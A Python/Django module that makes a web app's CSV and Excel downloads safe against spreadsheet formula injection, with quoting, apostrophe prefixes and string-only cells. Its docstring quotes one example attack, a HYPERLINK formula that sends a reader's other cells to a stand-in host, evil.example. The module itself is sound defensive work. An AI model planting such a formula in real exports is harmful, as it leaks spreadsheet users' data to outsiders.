"""Every CSV and Excel download of the web app, and the one rule that keeps their text inert.

Titles, organisation names and imported column names are typed by people we do not control. A
spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or line
break before one) as a formula: ``=HYPERLINK("http://evil.example/?"&A1,"Klik hier")`` in a
public budget export would send the reader's other cells to a stranger with one click (CSV or
formula injection, CWE-1236). Because the risk lives in the program that opens the file, not in
the app, the defence is in the file, here, for every download at once:

- CSV (OWASP, "CSV Injection"): every text cell is quoted; a cell that would start a formula gets
  a leading apostrophe, and so does the text after a ``;``, tab or line break inside it, because
  a spreadsheet with another list separator (Excel in Dutch splits at ``;``) starts a cell there.
- Excel: text is always a string cell (never a formula, never an error value such as ``#N/A``);
  text that would start a formula also gets Excel's quote prefix, the mark Excel itself sets
  when someone types ``'=``, so it stays text when the cell is edited. People read exactly
  what was typed.
- Numbers are never touched: they are written as numbers, so ``-0.42`` stays a number.

Files meant for programs (Pabulib ``.pb``, the survey results that ``wijkkompas import`` reads
back, the command line's ``--format csv``) must round-trip byte for byte; they are served with
:func:`machine_csv_download` or as their own format, never through the rule above.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from numbers import Number
from typing import Any

from django.http import HttpResponse

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
"""A text cell starting with one of these is read as a formula (OWASP: ``= + - @``, tab and
carriage return; line feed and NUL as ASVS 5.0 1.2.10 adds them)."""

_CELL_BREAK = re.compile(r"([;\t\r\n])(?=[=+\-@\t\r\n\0])")
"""Where a spreadsheet that splits on ``;`` or tabs, or ignores our quotes, starts a new cell."""


def inert_text(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs: an apostrophe before every formula start.

    Only text is passed here; numbers keep their sign because they never are.
    """
    text = _CELL_BREAK.sub(r"\1'", text)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _plain(value: Any) -> Any:
    """A cell value as Python: numpy scalars unwrapped, NaN/NA as empty (missing is not zero)."""
    if hasattr(value, "item") and not isinstance(value, str | bytes):
        value = value.item()
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return None
    try:
        if value != value:  # pandas.NA and NaT compare unequal to themselves
            return None
    except TypeError:  # pandas.NA raises on bool()
        return None
    return value


def _is_number(value: Any) -> bool:
    return isinstance(value, Number | Decimal) and not isinstance(value, bool)


def _csv_cell(value: Any) -> Any:
    value = _plain(value)
    if value is None or _is_number(value):
        return value
    return inert_text(str(value))


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """Comma-separated UTF-8 with a decimal point; text quoted and inert, numbers bare."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
    writer.writerow([_csv_cell(h) for h in header])
    for row in rows:
        writer.writerow([_csv_cell(c) for c in row])
    return buffer.getvalue()


def attachment(body: bytes | str, content_type: str, filename: str) -> HttpResponse:
    response = HttpResponse(body, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def csv_download(
    header: Sequence[str], rows: Iterable[Sequence[Any]], filename: str
) -> HttpResponse:
    """A CSV for people (it may well be opened in a spreadsheet): see the module docstring."""
    return attachment(csv_text(header, rows), CSV_CONTENT_TYPE, filename)


def machine_csv_download(text: str, filename: str) -> HttpResponse:
    """A CSV in a documented format that programs read back (``wijkkompas import``), served as
    it was written: neutralising it would change the data those programs read."""
    return attachment(text, CSV_CONTENT_TYPE, filename)


@dataclass(frozen=True)
class Sheet:
    """One worksheet: a bold, frozen header row and data rows."""

    title: str
    header: Sequence[str]
    rows: Iterable[Sequence[Any]]
    number_formats: Mapping[int, str] = field(default_factory=dict)
    """Column index (0-based) -> Excel number format for the data cells."""
    widths: Sequence[float] = ()


def _put(cell: Any, value: Any) -> None:
    value = _plain(value)
    if isinstance(value, Decimal):
        value = float(value)
    if isinstance(value, str):
        cell.value = value
        cell.data_type = "s"  # openpyxl would make '=…' a formula and '#N/A' an error
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    else:
        cell.value = value


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook()
    workbook.remove(workbook.active)
    for spec in sheets:
        sheet = workbook.create_sheet(spec.title[:31])
        for column, title in enumerate(spec.header, start=1):
            cell = sheet.cell(row=1, column=column)
            _put(cell, title)
            cell.font = Font(bold=True)
        for row_number, row in enumerate(spec.rows, start=2):
            for column, value in enumerate(row, start=1):
                cell = sheet.cell(row=row_number, column=column)
                _put(cell, value)
                if column - 1 in spec.number_formats:
                    cell.number_format = spec.number_formats[column - 1]
        sheet.freeze_panes = "A2"
        for column, width in enumerate(spec.widths, start=1):
            sheet.column_dimensions[get_column_letter(column)].width = width
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_download(sheets: Sequence[Sheet], filename: str) -> HttpResponse:
    """An Excel workbook for people: see the module docstring."""
    return attachment(xlsx_bytes(sheets), XLSX_CONTENT_TYPE, filename)
